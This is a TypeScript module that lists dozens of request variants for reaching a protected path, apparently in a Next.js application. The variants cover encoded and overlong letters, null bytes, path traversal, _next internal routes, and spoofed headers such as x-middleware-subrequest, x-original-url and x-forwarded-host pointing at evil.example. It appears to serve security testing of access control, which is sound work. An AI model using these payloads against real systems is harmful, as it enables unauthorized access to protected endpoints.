/** One way to ask for a path in other words, or beside the way. */
export interface Trick {
  name: string;
  path: (path: string, name: string) => string;
  headers?: Record<string, string>;
}

const hex = (character: string) => `%${character.charCodeAt(0).toString(16).padStart(2, "0")}`;
const first = (name: string, change: (letter: string) => string) => change(name.charAt(0)) + name.slice(1);
const inName = (change: (name: string) => string) => (path: string, name: string) =>
  path.replaceAll(name, change(name));
const as = (headers: Record<string, string>) => ({ path: (path: string) => path, headers });

/** What has opened doors elsewhere: other writings of a name, of a path, and headers that servers took for their own. */
export const TRICKS: readonly Trick[] = [
  { name: "an encoded letter", path: inName((name) => first(name, hex)) },
  {
    name: "a letter encoded twice",
    path: inName((name) => first(name, (it) => hex(it).replace("%", "%25"))),
  },
  { name: "every letter encoded", path: inName((name) => [...name].map(hex).join("")) },
  { name: "upper case", path: inName((name) => name.toUpperCase()) },
  { name: "another case", path: inName((name) => first(name, (it) => it.toUpperCase())) },
  {
    name: "a full-width letter",
    path: inName((name) =>
      first(name, (it) => encodeURIComponent(String.fromCharCode(it.charCodeAt(0) + 0xfee0))),
    ),
  },
  { name: "an overlong letter", path: inName((name) => first(name, () => "%c1%b0")) },
  { name: "a dot behind", path: inName((name) => `${name}.`) },
  { name: "an encoded dot behind", path: inName((name) => `${name}%2e`) },
  { name: "a blank behind", path: inName((name) => `${name}%20`) },
  { name: "a zero byte behind", path: inName((name) => `${name}%00`) },
  { name: "a soft hyphen in it", path: inName((name) => first(name, (it) => `${it}%c2%ad`)) },
  { name: "a semicolon behind", path: inName((name) => `${name};x=1`) },
  { name: "a glob", path: inName((name) => `${name.slice(0, -1)}*`) },
  { name: "an encoded slash before", path: inName((name) => `%2f${name}`) },
  { name: "an encoded backslash before", path: inName((name) => `%5c${name}`) },
  { name: "a dot segment", path: inName((name) => `./${name}`) },
  { name: "a way up and back", path: inName((name) => `x/../${name}`) },
  { name: "an encoded way up and back", path: inName((name) => `x/%2e%2e/${name}`) },
  { name: "an encoded slash and way up", path: inName((name) => `x%2f..%2f${name}`) },
  { name: "two slashes before", path: (path) => `/${path}` },
  { name: "two slashes within", path: (path) => path.replace(/^(\/[^/]+)/, "$1/") },
  { name: "a slash behind", path: (path) => path.replace(/(\?|$)/, "/$1") },
  { name: "a backslash", path: (path) => path.replace(/^(\/[^/]+)\//, "$1\\") },
  { name: "a dot segment at the front", path: (path) => `/.${path}` },
  { name: "a way up from a file", path: (path) => `/_next/static/..${path}` },
  { name: "an encoded way up from a file", path: (path) => `/_next/static/%2e%2e%2f..${path}` },
  { name: ".rsc", path: (path) => path.replace(/(\?|$)/, ".rsc$1") },
  { name: "a segment file", path: (path) => path.replace(/(\?|$)/, ".segments/_tree.segment.rsc$1") },
  { name: "_next/data", path: (path) => `/_next/data/build${path.replace(/(\?|$)/, ".json$1")}` },
  { name: "an image of it", path: (path) => `/_next/image?url=${encodeURIComponent(path)}&w=64&q=75` },
  {
    name: "a parameter twice",
    path: (path) => `${path}${path.includes("?") ? "&" : "?"}pipeline=x&pipeline=y`,
  },
  { name: "RSC", ...as({ rsc: "1" }) },
  { name: "RSC prefetch", ...as({ rsc: "1", "next-router-prefetch": "1" }) },
  {
    name: "RSC segment prefetch",
    ...as({ rsc: "1", "next-router-prefetch": "1", "next-router-segment-prefetch": "/_tree" }),
  },
  { name: "x-middleware-subrequest", ...as({ "x-middleware-subrequest": "proxy:proxy:proxy:proxy:proxy" }) },
  { name: "Next-Resume", ...as({ "next-resume": "1" }) },
  {
    name: "x-original-url",
    ...as({ "x-original-url": "/api/pipelines", "x-rewrite-url": "/api/pipelines" }),
  },
  { name: "x-forwarded-host", ...as({ "x-forwarded-host": "evil.example", "x-forwarded-for": "127.0.0.1" }) },
  { name: "x-invoke-path", ...as({ "x-invoke-path": "/api/pipelines", "x-matched-path": "/api/pipelines" }) },
  { name: "If-None-Match *", ...as({ "if-none-match": "*" }) },
  { name: "a range", ...as({ range: "bytes=0-" }) },
  { name: "another method's name", ...as({ "x-http-method-override": "GET" }) },
  { name: "a bearer of nothing", ...as({ authorization: "Bearer nothing" }) },
];
